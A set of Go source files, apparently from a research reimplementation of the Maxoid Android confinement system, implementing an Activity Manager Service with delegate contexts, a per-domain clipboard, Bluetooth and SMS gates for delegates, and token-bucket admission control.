		t.Fatal(err)
	}
	if !viewed.IsDelegate() || viewed.Initiator() != "vault" {
		t.Error("non-blacklisted VIEW intent did not invoke a delegate")
	}
}
