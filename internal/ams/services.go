package ams

import (
	"errors"
	"sync"

	"maxoid/internal/kernel"
)

// ErrDelegateDenied is returned by services that Maxoid closes off for
// delegates (Bluetooth, SMS; §6.2 item 5).
var ErrDelegateDenied = errors.New("ams: operation not permitted for delegates")

// Clipboard is the Clipboard Service with Maxoid's separate clipboard
// instances for delegates (§6.2): delegates of A share a confinement-
// domain clipboard layered over the public one, so copied data cannot
// leak out of the domain but public clips remain pasteable.
type Clipboard struct {
	mu     sync.Mutex
	public string
	hasPub bool
	vol    map[string]string // initiator -> clip
}

// NewClipboard creates an empty clipboard service.
func NewClipboard() *Clipboard {
	return &Clipboard{vol: make(map[string]string)}
}

// Set stores a clip for the caller's context.
func (cb *Clipboard) Set(task kernel.Task, text string) {
	cb.mu.Lock()
	defer cb.mu.Unlock()
	if task.IsDelegate() {
		cb.vol[task.Initiator] = text
		return
	}
	cb.public = text
	cb.hasPub = true
}

// Get returns the clip visible to the caller's context: a delegate sees
// its confinement domain's clip if one exists, else the public clip.
func (cb *Clipboard) Get(task kernel.Task) (string, bool) {
	cb.mu.Lock()
	defer cb.mu.Unlock()
	if task.IsDelegate() {
		if clip, ok := cb.vol[task.Initiator]; ok {
			return clip, true
		}
	} else {
		// An initiator also sees its own domain's clipboard (delegates
		// may have copied results for it), preferring the domain clip.
		if clip, ok := cb.vol[task.App]; ok {
			return clip, true
		}
	}
	if cb.hasPub {
		return cb.public, true
	}
	return "", false
}

// DiscardVolatile drops the initiator's domain clipboard (Clear-Vol).
func (cb *Clipboard) DiscardVolatile(initiator string) error {
	cb.mu.Lock()
	defer cb.mu.Unlock()
	delete(cb.vol, initiator)
	return nil
}

// Bluetooth is the Bluetooth Manager Service gate: delegates may not
// send data over Bluetooth.
type Bluetooth struct {
	mu   sync.Mutex
	sent []string
}

// Send transmits payload to a paired device.
func (b *Bluetooth) Send(task kernel.Task, payload string) error {
	if task.IsDelegate() {
		return ErrDelegateDenied
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	b.sent = append(b.sent, payload)
	return nil
}

// Sent returns everything transmitted (for leak assertions in tests).
func (b *Bluetooth) Sent() []string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return append([]string{}, b.sent...)
}

// Telephony is the Telephony Provider gate: delegates may not send SMS.
type Telephony struct {
	mu   sync.Mutex
	sent []string
}

// SendSMS sends a text message.
func (t *Telephony) SendSMS(task kernel.Task, to, body string) error {
	if task.IsDelegate() {
		return ErrDelegateDenied
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	t.sent = append(t.sent, to+":"+body)
	return nil
}

// Sent returns every message sent.
func (t *Telephony) Sent() []string {
	t.mu.Lock()
	defer t.mu.Unlock()
	return append([]string{}, t.sent...)
}
