package ams

import (
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"maxoid/internal/binder"
	"maxoid/internal/fault"
	"maxoid/internal/metrics"
	"maxoid/internal/shard"
)

// Admission control at the AMS boundary (ROADMAP item 3): per-app
// token-bucket rate limits plus a global in-flight ceiling, installed
// as the Binder router's AdmissionGate so every transaction into system
// services passes it before doing work. Overload degrades with typed,
// retryable rejections — binder.ErrOverloaded, which CallIdempotent
// backs off on — instead of unbounded queueing: p99 latency under
// overload is bounded by the retry policy, not by queue depth.

// faultAdmit lets the chaos engines force admission rejections without
// actually saturating the system (see internal/fault; point
// "ams.admit"). An injected hit rejects exactly like a real overload:
// typed, retryable, nothing admitted, nothing to release.
var faultAdmit = fault.Declare("ams.admit", "AMS admission: reject the transaction as overloaded before any work")

// AdmissionConfig tunes the controller.
type AdmissionConfig struct {
	// PerAppRate is the sustained per-app admission rate in
	// transactions per second. Zero disables per-app rate limiting.
	PerAppRate float64
	// PerAppBurst is the per-app bucket capacity — how far above the
	// sustained rate an app may spike. Defaults to max(1, PerAppRate).
	PerAppBurst float64
	// MaxInFlight is the global ceiling on concurrently admitted
	// transactions across all apps. Zero disables the ceiling.
	MaxInFlight int64
}

// bucket is one app's token bucket. The mutex is per-app, so the only
// contention on it is an app racing itself — which is exactly the load
// the bucket exists to bound.
type bucket struct {
	mu     sync.Mutex
	tokens float64
	last   int64 // mono nanos of the last refill
}

// Admission is the AMS admission controller. It implements
// binder.AdmissionGate.
type Admission struct {
	cfg      AdmissionConfig
	epoch    time.Time // mono clock base
	buckets  *shard.Map[string, *bucket]
	inflight atomic.Int64

	admitted atomic.Int64
	rejected atomic.Int64

	// writeGate, when set, is consulted for write-class transaction
	// codes: a degraded durable store sheds writes at admission while
	// reads keep flowing (see SetWriteGate).
	writeGate atomic.Pointer[func() error]

	// met caches resolved instruments (SetMetrics), nil when unwired.
	met atomic.Pointer[admissionMetrics]
}

// NewAdmission creates a controller. The zero-valued config admits
// everything (useful as a wiring placeholder).
func NewAdmission(cfg AdmissionConfig) *Admission {
	if cfg.PerAppRate > 0 && cfg.PerAppBurst <= 0 {
		cfg.PerAppBurst = cfg.PerAppRate
		if cfg.PerAppBurst < 1 {
			cfg.PerAppBurst = 1
		}
	}
	return &Admission{
		cfg:     cfg,
		epoch:   time.Now(),
		buckets: shard.NewMap[string, *bucket](shard.StringHash),
	}
}

// admissionMetrics caches instrument pointers for the hot path.
type admissionMetrics struct {
	admitted *metrics.Counter
	rejected *metrics.Counter
	inflight *metrics.Histogram
}

// SetMetrics wires admission counters into a registry (nil unwires):
// counters "ams.admitted" and "ams.rejected", histogram "ams.inflight"
// sampling the global in-flight population at admission time.
func (a *Admission) SetMetrics(reg *metrics.Registry) {
	if reg == nil {
		a.met.Store(nil)
		return
	}
	a.met.Store(&admissionMetrics{
		admitted: reg.Counter("ams.admitted"),
		rejected: reg.Counter("ams.rejected"),
		inflight: reg.Histogram("ams.inflight"),
	})
}

// SetWriteGate wires the durable store's health gate into admission
// (nil unwires). When the gate reports the store degraded, admission
// rejects write-class codes with the gate's typed, retryable error
// before the transaction reaches its provider — the overload machinery
// sheds writes, not reads.
func (a *Admission) SetWriteGate(gate func() error) {
	if gate == nil {
		a.writeGate.Store(nil)
		return
	}
	a.writeGate.Store(&gate)
}

// writeCode reports codes that can mutate durable state: the provider
// mutation verbs, plus "*" (a mixed batch that may contain writes).
// Unknown codes are treated as reads — the deeper vfs/sqldb gates
// still protect the store; admission shedding is an optimization, not
// the enforcement point.
func writeCode(code string) bool {
	switch code {
	case "insert", "update", "delete", "*":
		return true
	}
	return false
}

// now returns monotonic nanoseconds since the controller's epoch.
func (a *Admission) now() int64 { return int64(time.Since(a.epoch)) }

// bucketFor returns the app's bucket, creating it full on first use.
func (a *Admission) bucketFor(app string) *bucket {
	if b, ok := a.buckets.Get(app); ok {
		return b
	}
	b := &bucket{tokens: a.cfg.PerAppBurst, last: a.now()}
	// Racing creators: last Store wins; the losing bucket held at most
	// a burst of optimism for one call. Store-then-Get keeps it simple.
	a.buckets.Store(app, b)
	return b
}

// Admit implements binder.AdmissionGate: n transactions from one app
// admitted as a unit. System callers (empty app identity — the AMS
// itself, device services, tests) bypass rate limiting but still count
// toward the global in-flight ceiling.
func (a *Admission) Admit(from binder.Caller, endpoint, code string, n int) (func(), error) {
	if err := fault.Hit(faultAdmit); err != nil {
		a.countReject(n)
		return nil, fmt.Errorf("ams: admission %s: %w (injected)", endpoint, binder.ErrOverloaded)
	}
	if gp := a.writeGate.Load(); gp != nil && writeCode(code) {
		if err := (*gp)(); err != nil {
			a.countReject(n)
			return nil, fmt.Errorf("ams: %s %s shed by degraded store: %w", endpoint, code, err)
		}
	}
	app := from.Task.App
	if a.cfg.PerAppRate > 0 && app != "" {
		if !a.bucketFor(app).take(a.now(), a.cfg, float64(n)) {
			a.countReject(n)
			return nil, fmt.Errorf("ams: app %s rate limit: %w", app, binder.ErrOverloaded)
		}
	}
	if a.cfg.MaxInFlight > 0 {
		if cur := a.inflight.Add(int64(n)); cur > a.cfg.MaxInFlight {
			a.inflight.Add(int64(-n))
			a.countReject(n)
			return nil, fmt.Errorf("ams: %d in flight exceeds ceiling %d: %w",
				cur, a.cfg.MaxInFlight, binder.ErrOverloaded)
		}
	}
	a.admitted.Add(int64(n))
	if m := a.met.Load(); m != nil {
		m.admitted.Add(int64(n))
		m.inflight.Observe(time.Duration(a.inflight.Load()))
	}
	nn := int64(n)
	return func() {
		if a.cfg.MaxInFlight > 0 {
			a.inflight.Add(-nn)
		}
	}, nil
}

func (a *Admission) countReject(n int) {
	a.rejected.Add(int64(n))
	if m := a.met.Load(); m != nil {
		m.rejected.Add(int64(n))
	}
}

// take refills the bucket for elapsed time and claims n tokens.
func (b *bucket) take(now int64, cfg AdmissionConfig, n float64) bool {
	b.mu.Lock()
	defer b.mu.Unlock()
	elapsed := float64(now-b.last) / float64(time.Second)
	if elapsed > 0 {
		b.tokens += elapsed * cfg.PerAppRate
		if b.tokens > cfg.PerAppBurst {
			b.tokens = cfg.PerAppBurst
		}
		b.last = now
	}
	if b.tokens < n {
		return false
	}
	b.tokens -= n
	return true
}

// Admitted and Rejected report cumulative admission outcomes (counted
// in transactions, so a batch of 16 counts 16).
func (a *Admission) Admitted() int64 { return a.admitted.Load() }
func (a *Admission) Rejected() int64 { return a.rejected.Load() }

// InFlight reports the currently admitted transaction count (leak
// counter: must return to zero when the system drains).
func (a *Admission) InFlight() int64 { return a.inflight.Load() }

// EnableAdmissionControl creates an admission controller with the
// given config and installs it as the router's gate. It returns the
// controller for stats and metrics wiring. Pass a zero config to keep
// the gate installed but admit-everything (chaos still reaches the
// ams.admit fault point). On a durable boot the store's health gate
// (SetStoreGate) carries over into the controller, so write-class
// transactions are shed while the store is degraded.
func (m *Manager) EnableAdmissionControl(cfg AdmissionConfig) *Admission {
	a := NewAdmission(cfg)
	m.mu.Lock()
	a.SetWriteGate(m.storeGate)
	m.admission = a
	m.mu.Unlock()
	m.router.SetAdmission(a)
	return a
}

// SetStoreGate wires the durable store's write gate into the AMS (nil
// unwires). An already-installed admission controller picks it up
// immediately; controllers created later inherit it.
func (m *Manager) SetStoreGate(gate func() error) {
	m.mu.Lock()
	m.storeGate = gate
	a := m.admission
	m.mu.Unlock()
	if a != nil {
		a.SetWriteGate(gate)
	}
}
