// Package ams implements the Activity Manager Service with Maxoid's
// modifications (paper §3.4, §6.2): it tracks which context every app
// instance runs in (normal or on behalf of an initiator), decides for
// each intent whether the invoked app becomes a delegate (explicit
// intent flag, Maxoid-manifest invoker filters, or invocation-
// transitivity), rejects nested delegation, kills conflicting
// instances, and restricts broadcasts from delegates to the initiator's
// confinement domain.
package ams

import (
	"errors"
	"fmt"
	"sort"
	"sync"

	"maxoid/internal/binder"
	"maxoid/internal/intent"
	"maxoid/internal/kernel"
	"maxoid/internal/zygote"
)

// Errors returned by StartActivity.
var (
	// ErrNoActivity means no installed app matches the intent.
	ErrNoActivity = errors.New("ams: no activity found to handle intent")
	// ErrNestedDelegation is returned when a delegate asks to invoke
	// another app as its own delegate (unsupported, §3.4).
	ErrNestedDelegation = errors.New("ams: nested delegation is not supported")
	// ErrNotInstalled is returned for unknown packages.
	ErrNotInstalled = errors.New("ams: package not installed")
)

// App is the code of an installed application. OnStart is the app's
// entry component; it runs synchronously in the new instance's context.
type App interface {
	Package() string
	OnStart(ctx *Context, in intent.Intent) error
}

// BroadcastReceiver is implemented by apps that receive broadcasts.
type BroadcastReceiver interface {
	OnBroadcast(ctx *Context, in intent.Intent)
}

// Transactor is implemented by apps that accept direct Binder IPC.
type Transactor interface {
	OnTransact(ctx *Context, from binder.Caller, code string, data binder.Parcel) (binder.Parcel, error)
}

// MaxoidManifest is the per-app Maxoid manifest (§6.1): private
// directories on external storage and the invoker intent filters.
type MaxoidManifest struct {
	PrivateExtDirs []string
	Invoker        intent.InvokerPolicy
}

// Manifest describes an installed app.
type Manifest struct {
	Package string
	// Filters describe the intents the app's components handle.
	Filters []intent.Filter
	// Maxoid is the optional Maxoid manifest.
	Maxoid MaxoidManifest
}

// installedApp couples code, manifest, and install-time identity.
type installedApp struct {
	app      App
	manifest Manifest
	uid      int
}

func (ia *installedApp) zygoteInfo() zygote.AppInfo {
	return zygote.AppInfo{
		Package:        ia.manifest.Package,
		UID:            ia.uid,
		PrivateExtDirs: ia.manifest.Maxoid.PrivateExtDirs,
	}
}

// instanceKey identifies a running instance: app package + initiator
// ("" when running as itself).
type instanceKey struct {
	app       string
	initiator string
}

// instance is one running app instance.
type instance struct {
	proc *kernel.Process
	ctx  *Context
}

// VolatileStore is anything holding per-initiator volatile state that
// Clear-Vol must wipe (the providers' COW proxies, the clipboard).
type VolatileStore interface {
	DiscardVolatile(initiator string) error
}

// Manager is the Activity Manager Service.
type Manager struct {
	kern   *kernel.Kernel
	zyg    *zygote.Zygote
	router *binder.Router

	mu        sync.Mutex
	apps      map[string]*installedApp
	running   map[instanceKey]*instance
	volStores []VolatileStore
	grants    grantTable

	// storeGate is the durable store's health gate (core wires it on
	// durable boots); EnableAdmissionControl hands it to the admission
	// controller so degraded stores shed writes at the boundary.
	storeGate func() error
	admission *Admission

	// reclaimDomainOnExit makes the reaper discard an initiator's
	// volatile state (COW deltas, Vol files) once its whole confinement
	// domain has exited. Off by default: the paper keeps Vol(A) until
	// an explicit Clear-Vol (§3.2). The kill-chaos engine turns it on
	// to prove death reclaims everything.
	reclaimDomainOnExit bool

	// Stats observable by tests and the demo tool.
	killedForConflict int
	reaped            int
}

// New creates the Activity Manager, registers its Binder endpoint, and
// wires the supervision chain: binder link-to-death first, then the
// AMS reaper, both as synchronous kernel death watchers.
func New(kern *kernel.Kernel, zyg *zygote.Zygote, router *binder.Router) *Manager {
	m := &Manager{
		kern:    kern,
		zyg:     zyg,
		router:  router,
		apps:    make(map[string]*installedApp),
		running: make(map[instanceKey]*instance),
	}
	router.RegisterSystem("activity", binder.HandlerFunc(
		func(from binder.Caller, code string, data binder.Parcel) (binder.Parcel, error) {
			return nil, fmt.Errorf("ams: unsupported transaction %s", code)
		}))
	router.WatchKernel(kern)
	kern.WatchDeaths(m.onDeath)
	return m
}

// SetReclaimDomainOnExit toggles volatile-domain reclamation on death
// (see the field comment). Call before instances start.
func (m *Manager) SetReclaimDomainOnExit(on bool) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.reclaimDomainOnExit = on
}

// Router returns the system Binder router.
func (m *Manager) Router() *binder.Router { return m.router }

// Kernel returns the kernel.
func (m *Manager) Kernel() *kernel.Kernel { return m.kern }

// AddVolatileStore registers a store for Clear-Vol.
func (m *Manager) AddVolatileStore(vs VolatileStore) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.volStores = append(m.volStores, vs)
}

// Install installs an app: assigns its UID, prepares its backing
// directories, and records its manifest.
func (m *Manager) Install(app App, manifest Manifest) error {
	if manifest.Package == "" {
		manifest.Package = app.Package()
	}
	if manifest.Package != app.Package() {
		return fmt.Errorf("ams: manifest package %q != app package %q", manifest.Package, app.Package())
	}
	uid := m.kern.AssignUID(manifest.Package)
	ia := &installedApp{app: app, manifest: manifest, uid: uid}
	if err := m.zyg.InstallApp(ia.zygoteInfo()); err != nil {
		return err
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	m.apps[manifest.Package] = ia
	return nil
}

// Installed returns the installed package names, sorted.
func (m *Manager) Installed() []string {
	m.mu.Lock()
	defer m.mu.Unlock()
	out := make([]string, 0, len(m.apps))
	for pkg := range m.apps {
		out = append(out, pkg)
	}
	sort.Strings(out)
	return out
}

// resolveTarget finds the app that handles an intent. An explicit
// component wins; otherwise manifests' filters are matched, excluding
// the sender's own package, with the ResolverActivity's choice modeled
// as the lexicographically first match.
func (m *Manager) resolveTarget(senderPkg string, in intent.Intent) (*installedApp, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	if in.Component != "" {
		ia, ok := m.apps[in.Component]
		if !ok {
			return nil, fmt.Errorf("%w: %s", ErrNotInstalled, in.Component)
		}
		return ia, nil
	}
	var names []string
	for pkg, ia := range m.apps {
		if pkg == senderPkg {
			continue
		}
		for _, f := range ia.manifest.Filters {
			if f.Matches(in) {
				names = append(names, pkg)
				break
			}
		}
	}
	if len(names) == 0 {
		return nil, fmt.Errorf("%w: action %s data %s", ErrNoActivity, in.Action, in.Data)
	}
	sort.Strings(names)
	return m.apps[names[0]], nil
}

// ResolveCandidates returns every installed package whose filters match
// the intent, sorted — what Android's ResolverActivity would present to
// the user. The ResolverActivity itself is "considered an intent
// channel rather than an app instance" (§6.2): the delegate decision is
// made for the app the user finally picks, not for the chooser.
func (m *Manager) ResolveCandidates(senderPkg string, in intent.Intent) []string {
	m.mu.Lock()
	defer m.mu.Unlock()
	var names []string
	for pkg, ia := range m.apps {
		if pkg == senderPkg {
			continue
		}
		for _, f := range ia.manifest.Filters {
			if f.Matches(in) {
				names = append(names, pkg)
				break
			}
		}
	}
	sort.Strings(names)
	return names
}

// decideInitiator determines the invoked instance's initiator context.
// sender is nil for launcher-originated starts.
func decideInitiator(sender *Context, target string, in intent.Intent) (string, error) {
	if sender == nil {
		// Launcher start: normal unless the user chose an initiator via
		// the drop target (handled by StartDelegateFromLauncher).
		return "", nil
	}
	senderTask := sender.proc.Task
	if senderTask.IsDelegate() {
		// Invocation-transitivity (§3.4): the invoked instance is
		// forced to be a delegate of the same initiator. Asking for a
		// fresh delegation is nested delegation and fails.
		if in.HasFlag(intent.FlagDelegate) {
			return "", ErrNestedDelegation
		}
		if target == senderTask.Initiator {
			// Invoking the initiator itself: it runs as itself.
			return "", nil
		}
		return senderTask.Initiator, nil
	}
	// Sender is an initiator: explicit flag or manifest filters decide.
	if in.HasFlag(intent.FlagDelegate) {
		return senderTask.App, nil
	}
	if sender.invokerPolicy().Private(in) {
		return senderTask.App, nil
	}
	return "", nil
}

// StartActivity resolves and starts the app handling the intent on
// behalf of the sender. It returns the started instance's context. The
// target's OnStart runs synchronously before StartActivity returns,
// modeling the foreground activity switch.
func (m *Manager) StartActivity(sender *Context, in intent.Intent) (*Context, error) {
	senderPkg := ""
	if sender != nil {
		senderPkg = sender.proc.Task.App
	}
	target, err := m.resolveTarget(senderPkg, in)
	if err != nil {
		return nil, err
	}
	initiator, err := decideInitiator(sender, target.manifest.Package, in)
	if err != nil {
		return nil, err
	}
	// Android's per-URI permission: grant the receiver one-time read
	// access to the intent's data file, opened through the sender.
	if sender != nil && in.HasFlag(intent.FlagGrantReadURIPermission) && in.Data != "" {
		m.grants.add(sender.proc.PID, target.manifest.Package, in.Data)
	}
	return m.startInstance(target, initiator, in)
}

// StartDelegateFromLauncher starts app as a delegate of initiator
// without the initiator's explicit invocation — the Launcher's
// "Initiator" drop target (§6.3).
func (m *Manager) StartDelegateFromLauncher(app, initiator string, in intent.Intent) (*Context, error) {
	m.mu.Lock()
	target, ok := m.apps[app]
	_, initiatorInstalled := m.apps[initiator]
	m.mu.Unlock()
	if !ok {
		return nil, fmt.Errorf("%w: %s", ErrNotInstalled, app)
	}
	if !initiatorInstalled {
		return nil, fmt.Errorf("%w: %s", ErrNotInstalled, initiator)
	}
	return m.startInstance(target, initiator, in)
}

// startInstance gets or creates the instance for (app, initiator),
// killing conflicting instances, and delivers the intent.
func (m *Manager) startInstance(target *installedApp, initiator string, in intent.Intent) (*Context, error) {
	pkg := target.manifest.Package
	if initiator == pkg {
		initiator = "" // running on behalf of itself is normal execution
	}

	m.mu.Lock()
	// Collect instances of this app running in a different context
	// (§6.2: "that instance will be killed"), including the normal
	// instance when a delegate starts (§4.2 consistency). The kills
	// happen after m.mu is released: the kernel notifies death watchers
	// synchronously and the reaper (onDeath) retakes m.mu.
	var conflicting []int
	for key, inst := range m.running {
		if key.app == pkg && key.initiator != initiator {
			conflicting = append(conflicting, inst.proc.PID)
		}
	}
	key := instanceKey{app: pkg, initiator: initiator}
	inst, alreadyRunning := m.running[key]
	m.mu.Unlock()
	for _, pid := range conflicting {
		// A concurrent death of the same PID is fine: kill is idempotent.
		_ = m.kern.KillReason(pid, kernel.ReasonConflict)
	}

	if !alreadyRunning {
		var proc *kernel.Process
		var err error
		if initiator == "" {
			proc, err = m.zyg.ForkInitiator(target.zygoteInfo())
		} else {
			m.mu.Lock()
			initApp, ok := m.apps[initiator]
			m.mu.Unlock()
			if !ok {
				return nil, fmt.Errorf("%w: %s", ErrNotInstalled, initiator)
			}
			// nPriv lifecycle (§3.2): discard if diverged, then mark.
			diverged, derr := m.zyg.NPrivDiverged(pkg, initiator)
			if derr != nil {
				return nil, derr
			}
			if diverged {
				if err := m.zyg.DiscardNPriv(pkg, initiator); err != nil {
					return nil, err
				}
			}
			if err := m.zyg.MarkNPrivForked(pkg, initiator); err != nil {
				return nil, err
			}
			proc, err = m.zyg.ForkDelegate(target.zygoteInfo(), initApp.zygoteInfo())
		}
		if err != nil {
			return nil, err
		}
		ctx := &Context{mgr: m, proc: proc, app: target}
		inst = &instance{proc: proc, ctx: ctx}
		m.mu.Lock()
		m.running[key] = inst
		m.mu.Unlock()
		// Owned registration: link-to-death tears the endpoint down with
		// the process.
		m.router.RegisterOwned(endpointFor(proc.Task), proc.Task, proc.PID, &appEndpoint{inst: inst})
	}

	if err := target.app.OnStart(inst.ctx, in); err != nil {
		return inst.ctx, err
	}
	return inst.ctx, nil
}

// endpointFor names an instance's Binder endpoint.
func endpointFor(task kernel.Task) string {
	return "app:" + task.String()
}

// appEndpoint adapts an app's optional Transactor to Binder.
type appEndpoint struct {
	inst *instance
}

func (e *appEndpoint) OnTransact(from binder.Caller, code string, data binder.Parcel) (binder.Parcel, error) {
	if tr, ok := e.inst.ctx.app.app.(Transactor); ok {
		return tr.OnTransact(e.inst.ctx, from, code, data)
	}
	return nil, fmt.Errorf("ams: app %s does not accept transactions", e.inst.ctx.app.manifest.Package)
}

// onDeath is the AMS reaper, registered as a kernel death watcher. It
// runs synchronously on the killing goroutine for every process exit —
// whatever the path (stop, conflict kill, crash, chaos) — and tears
// down everything the Activity Manager holds for the instance: the
// running-table entry, the Binder endpoint, and the URI grants the
// process issued. Crashes are charged to the app's restart budget.
// When reclaimDomainOnExit is set and the death empties a confinement
// domain, the domain's volatile state is discarded too.
//
// Lock ordering: onDeath takes m.mu, so no AMS path may call into
// kernel Kill while holding m.mu (see DESIGN.md).
func (m *Manager) onDeath(ev kernel.DeathEvent) {
	key := instanceKey{app: ev.Task.App, initiator: ev.Task.Initiator}
	if !ev.Task.IsDelegate() {
		key.initiator = ""
	}
	domain := ev.Task.Initiator
	if !ev.Task.IsDelegate() {
		domain = ev.Task.App
	}

	m.mu.Lock()
	if inst, ok := m.running[key]; ok && inst.proc.PID == ev.PID {
		delete(m.running, key)
		m.reaped++
		if ev.Reason == kernel.ReasonConflict {
			m.killedForConflict++
		}
	}
	reclaim := m.reclaimDomainOnExit && m.domainEmptyLocked(domain)
	var stores []VolatileStore
	if reclaim {
		stores = append(stores, m.volStores...)
	}
	m.mu.Unlock()

	m.router.Unregister(endpointFor(ev.Task))
	m.grants.revokeGrantor(ev.PID)
	if ev.Reason == kernel.ReasonCrash {
		m.zyg.Budget().RecordCrash(ev.Task.App)
	}
	if reclaim {
		for _, vs := range stores {
			_ = vs.DiscardVolatile(domain)
		}
		_ = m.zyg.DiscardVolFiles(domain)
	}
}

// domainEmptyLocked reports whether initiator's confinement domain has
// no live instance: neither the initiator itself nor any delegate of
// it. Caller holds m.mu.
func (m *Manager) domainEmptyLocked(initiator string) bool {
	for key := range m.running {
		if key.initiator == initiator || (key.app == initiator && key.initiator == "") {
			return false
		}
	}
	return true
}

// StopInstance kills a running instance (back button / task swipe).
// Teardown happens in the reaper.
func (m *Manager) StopInstance(app, initiator string) {
	m.mu.Lock()
	key := instanceKey{app: app, initiator: initiator}
	var pid int
	inst, ok := m.running[key]
	if ok {
		pid = inst.proc.PID
	}
	m.mu.Unlock()
	if ok {
		_ = m.kern.Kill(pid)
	}
}

// Reaped reports how many instance deaths the reaper has processed.
func (m *Manager) Reaped() int {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.reaped
}

// NumRunning returns the live instance count (leak counter).
func (m *Manager) NumRunning() int {
	m.mu.Lock()
	defer m.mu.Unlock()
	return len(m.running)
}

// OutstandingGrants returns the live URI-grant count (leak counter).
func (m *Manager) OutstandingGrants() int { return m.grants.count() }

// RunningContext returns the live Context for a task — the seam remote
// boundaries (the gateway) use to bind an identity token to the same
// AMS-managed instance a local caller holds. Returns false when no
// instance of that (app, initiator) is running, so callers can turn a
// dead or never-started identity into a typed authorization failure.
func (m *Manager) RunningContext(task kernel.Task) (*Context, bool) {
	m.mu.Lock()
	defer m.mu.Unlock()
	inst, ok := m.running[instanceKey{app: task.App, initiator: task.Initiator}]
	if !ok {
		return nil, false
	}
	return inst.ctx, true
}

// IsInstalled reports whether a package is installed — the gateway uses
// it to distinguish an unknown principal (403) from a known-but-dead
// one (401).
func (m *Manager) IsInstalled(pkg string) bool {
	m.mu.Lock()
	defer m.mu.Unlock()
	_, ok := m.apps[pkg]
	return ok
}

// Running returns the tasks of all running instances, sorted by
// notation string.
func (m *Manager) Running() []kernel.Task {
	m.mu.Lock()
	defer m.mu.Unlock()
	out := make([]kernel.Task, 0, len(m.running))
	for _, inst := range m.running {
		out = append(out, inst.proc.Task)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].String() < out[j].String() })
	return out
}

// KilledForConflict reports how many instances were killed because an
// instance with a different initiator context started.
func (m *Manager) KilledForConflict() int {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.killedForConflict
}

// SendBroadcast delivers the intent to all installed apps with matching
// filters. Broadcasts from delegates of A are delivered only to A and
// delegates of A (§3.4); matching apps not yet running in that context
// are started as delegates of A.
func (m *Manager) SendBroadcast(sender *Context, in intent.Intent) error {
	senderTask := sender.proc.Task
	m.mu.Lock()
	var targets []*installedApp
	for pkg, ia := range m.apps {
		if pkg == senderTask.App {
			continue
		}
		for _, f := range ia.manifest.Filters {
			if f.Matches(in) {
				targets = append(targets, ia)
				break
			}
		}
	}
	m.mu.Unlock()
	sort.Slice(targets, func(i, j int) bool {
		return targets[i].manifest.Package < targets[j].manifest.Package
	})

	for _, target := range targets {
		initiator := ""
		if senderTask.IsDelegate() {
			initiator = senderTask.Initiator
			if target.manifest.Package == initiator {
				initiator = ""
			}
		}
		ctx, err := m.contextFor(target, initiator)
		if err != nil {
			return err
		}
		if br, ok := target.app.(BroadcastReceiver); ok {
			br.OnBroadcast(ctx, in)
		}
	}
	return nil
}

// restartInstance brings (task.App, task.Initiator) back up without
// delivering a start intent — the supervised-restart path behind
// Context.CallAppRetry. The fork is subject to the restart budget.
func (m *Manager) restartInstance(task kernel.Task) error {
	m.mu.Lock()
	target, ok := m.apps[task.App]
	m.mu.Unlock()
	if !ok {
		return fmt.Errorf("%w: %s", ErrNotInstalled, task.App)
	}
	initiator := ""
	if task.IsDelegate() {
		initiator = task.Initiator
	}
	_, err := m.contextFor(target, initiator)
	return err
}

// contextFor returns the running context for (app, initiator), spawning
// the instance (without an OnStart intent) if needed.
func (m *Manager) contextFor(target *installedApp, initiator string) (*Context, error) {
	pkg := target.manifest.Package
	m.mu.Lock()
	inst, ok := m.running[instanceKey{app: pkg, initiator: initiator}]
	m.mu.Unlock()
	if ok {
		return inst.ctx, nil
	}
	// Spawn without delivering a start intent: mimic a broadcast-only
	// process start.
	noStart := &installedApp{app: silentApp{pkg: pkg, inner: target.app}, manifest: target.manifest, uid: target.uid}
	return m.startInstance(noStart, initiator, intent.Intent{})
}

// silentApp suppresses OnStart for broadcast-only process spawns while
// keeping the receiver behavior of the wrapped app.
type silentApp struct {
	pkg   string
	inner App
}

func (s silentApp) Package() string                       { return s.pkg }
func (s silentApp) OnStart(*Context, intent.Intent) error { return nil }
func (s silentApp) OnBroadcast(ctx *Context, in intent.Intent) {
	if br, ok := s.inner.(BroadcastReceiver); ok {
		br.OnBroadcast(ctx, in)
	}
}
func (s silentApp) OnTransact(ctx *Context, from binder.Caller, code string, data binder.Parcel) (binder.Parcel, error) {
	if tr, ok := s.inner.(Transactor); ok {
		return tr.OnTransact(ctx, from, code, data)
	}
	return nil, fmt.Errorf("ams: app %s does not accept transactions", s.pkg)
}

// ClearVol discards initiator A's entire volatile state: volatile files
// (Zygote branches) and volatile records in every registered store —
// the Launcher's Clear-Vol drop target (§6.3).
func (m *Manager) ClearVol(initiator string) error {
	// Kill A's delegates first so they do not write concurrently. Kills
	// run outside m.mu (the reaper retakes it).
	m.mu.Lock()
	var victims []int
	for key, inst := range m.running {
		if key.initiator == initiator {
			victims = append(victims, inst.proc.PID)
		}
	}
	stores := append([]VolatileStore{}, m.volStores...)
	m.mu.Unlock()
	for _, pid := range victims {
		_ = m.kern.Kill(pid)
	}
	if err := m.zyg.DiscardVolFiles(initiator); err != nil {
		return err
	}
	for _, vs := range stores {
		if err := vs.DiscardVolatile(initiator); err != nil {
			return err
		}
	}
	return nil
}

// ClearPriv discards Priv(x^A) for all x: every app's normal and
// persistent private state forked for initiator A — the Launcher's
// Clear-Priv drop target (§6.3).
func (m *Manager) ClearPriv(initiator string) error {
	m.mu.Lock()
	var pkgs []string
	for pkg := range m.apps {
		pkgs = append(pkgs, pkg)
	}
	var victims []int
	for key, inst := range m.running {
		if key.initiator == initiator {
			victims = append(victims, inst.proc.PID)
		}
	}
	m.mu.Unlock()
	for _, pid := range victims {
		_ = m.kern.Kill(pid)
	}
	sort.Strings(pkgs)
	for _, pkg := range pkgs {
		if pkg == initiator {
			continue
		}
		if err := m.zyg.DiscardNPriv(pkg, initiator); err != nil {
			return err
		}
		if err := m.zyg.DiscardPPriv(pkg, initiator); err != nil {
			return err
		}
	}
	return nil
}
