// Package cowproxy implements the paper's SQLite copy-on-write proxy
